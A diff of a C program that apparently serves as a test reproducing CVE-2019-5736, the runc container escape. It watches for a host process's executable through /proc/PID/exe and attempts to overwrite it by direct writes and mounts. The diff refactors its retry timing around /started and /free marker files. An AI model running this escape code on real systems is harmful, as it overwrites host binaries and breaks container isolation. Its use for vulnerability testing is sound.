@@ -1,13 +1,13 @@
 /*
- * overwrite SECONDS: CVE-2019-5736 from inside. Waits for a process whose executable is not ours, keeps that file by /proc/PID/exe,
+ * overwrite: CVE-2019-5736 from inside. Waits for a process whose executable is not ours, keeps that file by /proc/PID/exe,
  * and tries to write to it by every way there is once it is not busy. Prints "overwritten", or what each way failed with.
+ * The test makes /started when there should be such a process, and /free when it has ended.
  */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/mount.h>
 #include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -70,31 +70,38 @@ static int write_by_mount(int fd)
 	return write_by(tree);
 }
 
-int main(int argc, char **argv)
+/* For two minutes, or until the file has been there for a second. */
+static int go_on(const char *file, long *tries)
 {
-	int prey = -1, result = 0, mount = 0;
-	long tries = (argc > 1 ? atol(argv[1]) : 5) * 200;
+	if (access(file, F_OK) == 0 && *tries > 200)
+		*tries = 200;
+	(void)usleep(5000);
+	return (*tries)-- > 0;
+}
+
+int main(void)
+{
+	int prey, result, mount;
+	long tries = 24000;
 	(void)stat("/proc/self/exe", &own);
-	for (; tries > 0 && prey < 0; tries--) {
+	do
 		prey = find_prey();
-		if (prey < 0)
-			(void)usleep(5000);
-	}
+	while (prey < 0 && go_on("/started", &tries));
 	if (prey < 0) {
 		puts("no prey");
 		return 1;
 	}
 	puts("kept");
 	(void)fflush(stdout);
-	for (; tries > 0; tries--) {
+	tries = 24000;
+	do {
 		result = write_by(prey);
 		mount = result ? write_by_mount(prey) : 0;
 		if (!result || !mount) {
 			puts("overwritten");
 			return 0;
 		}
-		(void)usleep(5000);
-	}
+	} while (go_on("/free", &tries));
 	printf("open: %s; mount: %s\n", strerror(result), strerror(mount));
 	return 1;
 }
